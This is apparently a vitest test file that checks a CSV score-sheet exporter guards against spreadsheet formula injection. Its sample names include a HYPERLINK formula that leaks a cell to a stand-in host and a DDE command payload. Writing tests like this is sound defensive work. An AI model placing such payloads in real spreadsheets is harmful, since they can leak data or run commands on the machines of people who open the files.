import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/approval/csv-cell.js';
import { scoreSheetCsv } from '../../src/approval/score-sheet-file.js';

describe('CSV score sheet: formula injection (issue 18, item 4)', () => {
  const names = ['=HYPERLINK("http://x.example/?a="&A1,"Bấm")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  it('writes names that look like formulas as text the spreadsheet will not run', () => {
    const csv = scoreSheetCsv([{ name: 'Phòng A', bold: [0], rows: [['STT', 'Tiêu chí', ...names], [1, 'Tổng điểm', 10, -5, 0, null, 7.5, 3]] }]);
    const header = csv.split('\r\n')[1] ?? '';
    // No cell of the row starts with a formula character.
    expect(header.split(',').filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(header).toBe(
      'STT,Tiêu chí,"\'=HYPERLINK(""http://x.example/?a=""&A1,""Bấm"")","\'+cmd|\' /C calc\'!A0","\'-2+3","\'@SUM(A1:A9)","\'\t=1+1","\'\r=1+1"',
    );
    // Numbers stay numbers, a negative one included.
    expect(csv.split('\r\n')[2]).toBe('1,Tổng điểm,10,-5,0,,7.5,3');
  });

  it('neutralises each dangerous first character and quotes separators, leaving plain Vietnamese text alone', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+84912345678')).toBe(`"'+84912345678"`);
    expect(csvCell('- ghi chú')).toBe(`"'- ghi chú"`);
    expect(csvCell('@nguoi')).toBe(`"'@nguoi"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('Nguyễn Văn An')).toBe('Nguyễn Văn An');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('Phòng A; B')).toBe('"Phòng A; B"');
    expect(csvCell('Trung tâm "CNTT", Sở')).toBe('"Trung tâm ""CNTT"", Sở"');
    expect(csvCell('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(-3)).toBe('-3');
  });
});
